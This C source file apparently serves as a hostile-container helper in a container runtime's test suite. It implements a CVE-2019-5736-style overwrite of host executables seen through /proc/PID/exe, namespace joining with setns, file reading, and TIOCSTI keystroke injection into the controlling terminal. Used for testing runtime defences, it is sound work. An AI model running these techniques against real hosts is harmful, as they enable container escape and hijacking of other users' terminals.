/* What a hostile container runs, where a shell is not enough; each way is a word:
 *
 *   overwrite           look for programs of the host that run in this pid namespace, and write to them
 *                       (CVE-2019-5736), until SIGTERM; say then how many were seen and written to
 *   undefended PID      be such a program: join the namespaces of PID and run oneself there, as weak as a container
 *   linger              what that runs
 *   cat FILE            copy a file to stdout, with the effective ids
 *   push TEXT           type TEXT on the terminal that is stdin, as if somebody else had (TIOCSTI)
 */

#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

enum { HELD = 256 };
static const uint64_t DEFAULT_CAPABILITIES = 0xa80425fb; /* of Docker, and of the containers of these tests */
static const useconds_t LINGER = 300000;

static int fail(const char *what) {
    fprintf(stderr, "%s: %s\n", what, strerror(errno));
    return 1;
}

/* Whether it is a new one, and no file of the container: a program that came in from outside, or a copy of one. */
static int is_foreign(int fd, const int *held, int holding) {
    struct stat found, inside;
    char link[64], target[4096];
    if (fstat(fd, &found) < 0 || !S_ISREG(found.st_mode))
        return 0;
    for (int i = 0; i < holding; i++)
        if (fstat(held[i], &inside) == 0 && inside.st_dev == found.st_dev && inside.st_ino == found.st_ino)
            return 0; /* known */
    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    ssize_t length = readlink(link, target, sizeof target - 1);
    if (length < 0)
        return 0;
    target[length] = 0;
    return stat(target, &inside) < 0 || inside.st_dev != found.st_dev || inside.st_ino != found.st_ino;
}

static volatile sig_atomic_t over;

static void end(int number) {
    (void)number;
    over = 1;
}

static int overwrite(void) {
    int held[HELD], holding = 0, seen = 0, written = 0;
    signal(SIGTERM, end);
    puts("looking");
    fflush(stdout);
    while (!over) {
        DIR *directory = opendir("/proc");
        struct dirent *entry;
        while (directory && (entry = readdir(directory))) {
            char path[64];
            if (entry->d_name[0] < '1' || entry->d_name[0] > '9' || atoi(entry->d_name) == getpid())
                continue;
            snprintf(path, sizeof path, "/proc/%.16s/exe", entry->d_name);
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd < 0)
                continue;
            if (holding < HELD && is_foreign(fd, held, holding)) {
                held[holding++] = fd; /* as long as it runs it cannot be written to: ETXTBSY */
                seen++;
            } else
                close(fd);
        }
        if (directory)
            closedir(directory);
        for (int i = 0; i < holding; i++) {
            char path[64];
            snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
            int fd = open(path, O_WRONLY | O_CLOEXEC);
            if (fd < 0 && errno == ETXTBSY)
                continue;
            if (fd >= 0 && write(fd, "#!/hostile\n", 11) == 11)
                written++;
            if (fd >= 0)
                close(fd);
            close(held[i]);
            held[i--] = held[--holding];
        }
    }
    printf("seen %d written %d\n", seen, written);
    return 0;
}

static int undefended(const char *pid) {
    const char *kinds[] = {"pid", "mnt"};
    int namespaces[2];
    for (int i = 0; i < 2; i++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%.16s/ns/%s", pid, kinds[i]);
        if ((namespaces[i] = open(path, O_RDONLY | O_CLOEXEC)) < 0)
            return fail(path);
    }
    for (int i = 0; i < 2; i++)
        if (setns(namespaces[i], 0) < 0)
            return fail("setns");
    for (int one = 0; one < 64; one++) /* a stronger one nobody in the container may look at: ptrace(2) */
        if (!(DEFAULT_CAPABILITIES >> one & 1))
            prctl(PR_CAPBSET_DROP, one);
    pid_t child = fork();
    if (child == 0) {
        execl("/proc/self/exe", "/proc/self/exe", "linger", NULL);
        _exit(fail("exec"));
    }
    int status;
    waitpid(child, &status, 0);
    return WEXITSTATUS(status);
}

static int cat(const char *path) {
    char data[4096];
    int fd = open(path, O_RDONLY);
    ssize_t length = fd < 0 ? -1 : read(fd, data, sizeof data);
    return length < 0 ? fail(path) : write(STDOUT_FILENO, data, length) != length;
}

static int push(const char *text) {
    for (; *text; text++)
        if (ioctl(STDIN_FILENO, TIOCSTI, text) < 0)
            return fail("TIOCSTI");
    return 0;
}

int main(int argc, char **argv) {
    const char *word = argc > 1 ? argv[1] : "", *argument = argc > 2 ? argv[2] : "";
    if (!strcmp(word, "overwrite"))
        return overwrite();
    if (!strcmp(word, "undefended"))
        return undefended(argument);
    if (!strcmp(word, "linger"))
        return usleep(LINGER);
    if (!strcmp(word, "cat"))
        return cat(argument);
    if (!strcmp(word, "push"))
        return push(argument);
    return 2;
}
